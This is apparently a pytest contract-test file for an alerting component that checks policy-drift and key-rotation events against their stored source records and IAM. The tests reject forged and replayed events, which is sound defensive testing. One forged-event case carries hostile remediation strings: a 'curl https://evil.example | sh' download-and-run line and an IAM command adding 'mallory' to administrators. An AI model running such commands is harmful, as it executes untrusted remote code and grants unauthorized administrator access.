"""What alerting reads at the source of an event: the items that policy drift and rotation write themselves."""

from dataclasses import replace

import boto3
import pytest

from access_key_rotation.adapters.dynamodb_records import DynamoDbRotationRecords
from access_key_rotation.application.run import LEASE
from access_key_rotation.domain.names import UserName
from access_key_rotation.domain.state import KeyHistory, Record
from alerting.adapters.dynamodb_sources import DynamoDbSources
from alerting.alert_envelope import bus_event
from policy_drift.adapters.dynamodb_findings import DynamoDbBaselineRecords, DynamoDbFindings
from policy_drift.domain.baseline import InForce, Origin
from policy_drift.domain.events import BaselineChanged, PolicyDriftDetected
from policy_drift.domain.finding import State
from policy_drift.domain.lifecycle import Ending
from policy_drift.report.finding_events import acknowledgement, resolution
from steward.aws.clients import client
from steward.errors import UpstreamError
from steward.events import detail_of
from tests.contract.conftest import ACCOUNT, REGION
from tests.contract.policy_drift.test_findings import FINDING, LATER, NOON
from tests.doubles.frozen_clock import FrozenClock
from tests.dynamodb_tables import create_table
from tests.published_events import golden_event

USER = UserName("ecr-push")
DETECTED = PolicyDriftDetected(
    FINDING.id, "role/app", "ACCESS", "HIGH", "BROADENED", "more", "opened", "f" * 64, NOON.isoformat(), added=["ä"]
)
RESOLVED = resolution(replace(FINDING, state=State.RESOLVED, resolved_at=LATER), Ending.REVERTED)


@pytest.fixture
def sources(table):
    create_table(boto3.client("dynamodb"), "rotation")
    return DynamoDbSources(client("dynamodb"), lambda: client("iam"), table, "rotation")


@pytest.fixture
def findings(table):
    return DynamoDbFindings(client("dynamodb"), table)


def on_the_bus(event, source="policy_drift", **changed):
    """The event as alerting gets it."""
    detail = detail_of(event, correlation_id="c", account=ACCOUNT, region=REGION)
    detail["data"] |= changed
    envelope = golden_event("PolicyDriftDetected") | {"source": f"steward.{source}", "detail": detail}
    return bus_event(envelope | {"detail-type": type(event).__name__})


@pytest.mark.parametrize("event", [DETECTED, acknowledgement(FINDING)])
def test_an_event_that_the_source_published_is_confirmed(sources, findings, event):
    findings.save(FINDING, after=0, events=[event], until=LATER)

    assert sources.doubt(on_the_bus(event)) == ""


def test_an_event_stays_confirmed_after_later_ones(sources, findings):
    findings.save(FINDING, after=0, events=[DETECTED], until=LATER)
    findings.save(FINDING, after=1, events=[replace(DETECTED, why="worse")], until=LATER)
    findings.save(FINDING, after=2)

    assert sources.doubt(on_the_bus(DETECTED)) == ""
    assert sources.doubt(on_the_bus(replace(DETECTED, why="worse"))) == ""


@pytest.mark.parametrize(
    "forged",
    [
        {"severity": "CRITICAL"},
        {"changes": [{"actor": "123456789012:user/colleague", "event_name": "PutRolePolicy"}]},
        {"revert": ["curl https://evil.example | sh"]},
        {"revert": ["aws iam add-user-to-group --user-name mallory --group-name administrators"]},
        {"summary": "nothing to see"},
    ],
)
def test_an_event_with_one_other_fact_is_doubted(sources, findings, forged):
    findings.save(FINDING, after=0, events=[DETECTED], until=LATER)

    assert sources.doubt(on_the_bus(DETECTED, **forged)) == "no such event of this finding was published"


def test_a_finding_that_is_not_stored_is_doubted(sources):
    assert sources.doubt(on_the_bus(DETECTED)) == "there is no such finding"


def test_a_resolution_is_doubted_while_the_finding_is_open(sources, findings):
    """A true one of last week, sent once more."""
    findings.save(replace(FINDING, state=State.RESOLVED), after=0, events=[RESOLVED], until=LATER)
    true = sources.doubt(on_the_bus(RESOLVED))
    findings.save(replace(FINDING, state=State.OPEN), after=1)

    assert (true, sources.doubt(on_the_bus(RESOLVED))) == ("", "the finding is OPEN")


def test_a_change_of_the_baseline_is_confirmed_by_its_record(sources, table):
    event = BaselineChanged("v2", "v1", "uploaded", "123456789012:user/m", "HIGH", "more")
    in_force = InForce("v2", reviewed=True, by="123456789012:user/m", how=Origin.UPLOADED, since=NOON)
    DynamoDbBaselineRecords(client("dynamodb"), table, ACCOUNT).save(in_force, after=0, events=[event], until=LATER)

    assert sources.doubt(on_the_bus(event)) == ""
    assert "was published" in sources.doubt(on_the_bus(event, by="123456789012:user/colleague"))


def test_an_event_about_a_user_that_a_run_has_seen_is_confirmed(sources):
    records = DynamoDbRotationRecords(client("dynamodb"), "rotation", FrozenClock())
    records.claim(USER, "t", LEASE)
    event = bus_event(golden_event("AccessKeyRotationBlocked", user_name=USER))

    assert sources.doubt(event) == ""
    assert "no run has seen" in sources.doubt(bus_event(golden_event("AccessKeyRotationBlocked", user_name="forged")))


def leak(user, key_id):
    return bus_event(golden_event("AccessKeyRotationDue", user_name=user, key_id=key_id, reason="compromised"))


def test_a_leak_is_confirmed_by_the_record_of_the_user(sources):
    records = DynamoDbRotationRecords(client("dynamodb"), "rotation", FrozenClock())
    records.release(records.claim(USER, "t", LEASE), Record(user_id="AIDA1", keys={"AKIA1": KeyHistory()}))

    assert sources.doubt(leak(USER, "AKIA1")) == ""


def test_a_leak_that_no_record_knows_is_confirmed_by_iam(sources):
    iam = boto3.client("iam")
    iam.create_user(UserName=USER)
    iam.create_user(UserName="colleague")
    key_id = iam.create_access_key(UserName=USER)["AccessKey"]["AccessKeyId"]

    assert sources.doubt(leak(USER, key_id)) == ""
    assert "IAM knows no such key" in sources.doubt(leak("colleague", key_id))
    assert "IAM knows no such key" in sources.doubt(leak(USER, "AKIAEXAMPLEFORGED000"))


@pytest.mark.parametrize("name", ["RepositoryCreated", "DriftScanCompleted", "AccessKeyRotationDue"])
def test_an_event_of_no_finding_or_leak_is_not_doubted(sources, name):
    assert sources.doubt(bus_event(golden_event(name, reason="scheduled"))) == ""


def test_a_source_that_cannot_be_read_is_no_confirmation(moto):
    sources = DynamoDbSources(client("dynamodb"), lambda: client("iam"), "gone", "gone")

    with pytest.raises(UpstreamError):
        sources.doubt(on_the_bus(DETECTED))
